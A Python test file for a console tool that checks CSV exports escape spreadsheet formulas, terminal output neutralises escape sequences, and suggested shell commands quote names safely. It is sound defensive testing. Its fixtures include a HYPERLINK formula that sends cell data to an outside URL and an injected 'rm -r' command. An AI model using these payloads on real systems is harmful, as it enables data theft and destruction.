"""Texts that a spreadsheet would run, or a terminal obey: written so that neither does, and read
back as they were.

Promises every way in which a program splits a line into cells. Must not need a stack.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import example, given
from hypothesis import strategies as st
from rich.table import Table
from rich.text import Text

from motcua.chassis.v1.operations_pb2 import HaltedEvent, Projection
from services.console.__main__ import main
from services.console.commands.export import STDOUT, write_csv, written
from services.console.commands.park import state
from services.console.display import screen as screens
from services.console.exporting.effective_times import Line
from services.console.importing.faults import Fault
from services.console.importing.keys import load
from services.console.importing.outcomes import account
from services.console.importing.rows import Sent, items
from services.console.importing.rules import rules
from services.console.outcome import Mistake
from services.console.terminal import output, print_document, say, visible
from services.formulas import escaped, escaped_row, unescaped
from tests.e2e.catalogue_samples import UNIT

ROOT = Path(__file__).resolve().parents[2]
STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
TEXTS = [
    '=HYPERLINK("http://x.vn/"&A1,"Xem")', "+84 24 3825 3536", "-1+1", "@SUM(A1)", "\t=1", " =1",
    "'=1", "''=1", "'", "'a", "a;=1+1", "a; '=1", "a\n-b", "a\r\n=b", "－1", "1;2", "=", "A=1",
]  # fmt: skip
some_texts = st.text(st.sampled_from("=+-@'; \t\na1＝"), max_size=12)


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would compute it: what is no plain number, and begins like one."""
    bare = cell.strip()
    return bare.startswith(STARTS) and not re.fullmatch(r"-\d+(\.\d+)?", bare)


@given(st.one_of(st.text(), some_texts, st.sampled_from(TEXTS)))
@example("'\t'=1")
def test_every_text_comes_back_as_it_was(text: str) -> None:
    assert unescaped(escaped(text)) == text


@given(st.lists(st.one_of(some_texts, st.sampled_from(TEXTS)), min_size=1, max_size=4))
def test_no_cell_is_a_formula_however_a_line_is_split(cells: list[str]) -> None:
    out = io.StringIO(newline="")
    csv.writer(out).writerow(escaped_row(cells))
    for delimiter in ",;\t":
        for line in csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=delimiter):
            assert not [cell for cell in line if is_formula(cell)]


def test_numbers_and_other_texts_stay_as_they_are() -> None:
    for text in ("-5", "-5.25", "12", "", "a-b", "Cấp mới", "[-1]", "1.004194", "a@b.vn"):
        assert escaped(text) == text
    assert escaped("=1+1") == "'=1+1"
    assert escaped("'=1+1") == "''=1+1"


async def lines(*called: str) -> AsyncIterator[Line]:
    for number, vi in enumerate(called):
        unit = type(UNIT)()
        unit.CopyFrom(UNIT)
        unit.name, unit.parent, unit.display_name.vi = f"units/-{number}x", "", vi
        unit.display_name.en = ""
        yield Line(unit, ("", ""))


@pytest.mark.parametrize("raw", [False, True])
async def test_an_exported_table_holds_no_formula_and_is_imported_as_it_was(
    tmp_path: Path, raw: bool
) -> None:
    names = [text for text in TEXTS if text == " ".join(text.split())]
    path = tmp_path / "units.csv"
    with path.open("w", encoding="utf-8", newline="") as file:
        await write_csv(file, "units", lines(*names), lambda _: None, raw=raw)
    with path.open(encoding="utf-8-sig", newline="") as file:
        table = list(csv.reader(file))
    assert any(is_formula(cell) for line in table for cell in line) is raw
    found = [*items([path], load(ROOT / "deploy/mappings/motcua_units.toml", rules))]
    assert not [each for each in found if isinstance(each, Fault)]
    units = [each.row.unit for each in found if isinstance(each, Sent)]
    said = [unit.unit.display_name.vi for unit in units]
    assert [unit.unit_id for unit in units] == [f"-{number}x" for number in range(len(names))]
    # Without escaping there is no telling what an apostrophe in front was for.
    assert said == ([unescaped(name) for name in names] if raw else names)


def test_the_report_of_an_import_holds_no_formula(tmp_path: Path) -> None:
    path = tmp_path / "report.csv"
    with account(path, keep=1, changes=False) as done:
        done.fault(Fault(2, "unit", "=1+1", "@x", "ID_MALFORMED", "-vi", "+en", file="=x.csv"))
    with path.open(encoding="utf-8-sig", newline="") as file:
        [_, told] = csv.reader(file)
    assert [unescaped(cell) for cell in told] == [
        "refused", "2", "unit", "=1+1", "@x", "ID_MALFORMED", "-vi", "+en", "=x.csv",
    ]  # fmt: skip
    assert not [cell for cell in told if is_formula(cell)]


OBEYED = "\x1b[31mđỏ\x07 \r\x9b2J \u202e[bold]x[/] :smile: [/]"
SHOWN = r"\x1b[31mđỏ\x07 \r\x9b2J \u202e[bold]x[/] :smile: [/]"


def test_a_terminal_obeys_no_text(capsys: pytest.CaptureFixture[str]) -> None:
    table = Table(title=OBEYED)
    table.add_column(OBEYED)
    table.add_row(OBEYED, style="bold")
    screens.screen().print(table)
    assert capsys.readouterr().out.count(SHOWN) == 3
    table.add_row(Text("\x1b]0;x\u202e"))
    screens.screen().print(table, Text("\x1b]0;x\u202e"))
    assert capsys.readouterr().out.count(r"\x1b]0;x\u202e") == 2
    say(OBEYED)
    Mistake(OBEYED).show()
    said = capsys.readouterr()
    assert said.out == f"{SHOWN}\n"
    assert SHOWN in said.err
    assert visible("một\nhai\tba") == "một\nhai\tba"


def test_nor_a_file_without_a_name(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A program gets what a terminal does not."""
    csv.writer(output()).writerow([OBEYED])
    assert capsys.readouterr().out == f'"{OBEYED}"\r\n'
    monkeypatch.setattr("sys.stdout.isatty", lambda: True)
    with written(STDOUT) as file:
        csv.writer(file).writerow([OBEYED])
    assert capsys.readouterr().out == f'"{SHOWN}"\n'


def test_a_command_to_be_typed_has_what_a_service_says_as_one_word() -> None:
    halted = Projection(name="tree; rm -r x", halted=HaltedEvent(position=3))
    said = state("catalog", halted)
    assert said.endswith("""\n  ./motcua park catalog 'tree; rm -r x' 3 --reason "…\"""")


def test_nor_what_a_command_says_of_its_arguments(tmp_path: Path) -> None:
    (there := tmp_path / "mapping.toml").touch()
    mapping = ["--mapping", str(there)]
    for words in (["import", "\x1b[31mx", *mapping], ["export", "--kind", "\x9b2J"]):
        said = CliRunner().invoke(main, words)
        assert said.exit_code == 2
        assert visible(said.output) == said.output
        assert re.search(r"\\x1b\[31m|\\x9b2J", said.output)


def test_a_document_is_the_same_and_has_nothing_that_a_terminal_obeys(
    capsys: pytest.CaptureFixture[str],
) -> None:
    document: Any = {"a": OBEYED, "đ": ["\u2028", 1]}
    print_document(document)
    written = capsys.readouterr().out
    assert json.loads(written) == document
    assert visible(written) == written


def test_commands_write_by_way_of_the_terminal_module_only() -> None:
    """Development's own commands (check, proto, reasons, reference) print what they made."""
    own = {"terminal.py", "screen.py", "check.py", "contracts.py", "reasons.py", "reference.py"}
    files = [path for path in (ROOT / "services/console").rglob("*.py") if path.name not in own]
    assert len(files) > 40
    for path in files:
        text = path.read_text(encoding="utf-8")
        other = re.search(r"click\.s?echo|^\s*print\(|\bConsole\(", text, re.MULTILINE)
        assert other is None, path.name
        assert not re.search(r"csv\.writer", text) or "escaped_row" in text, path.name
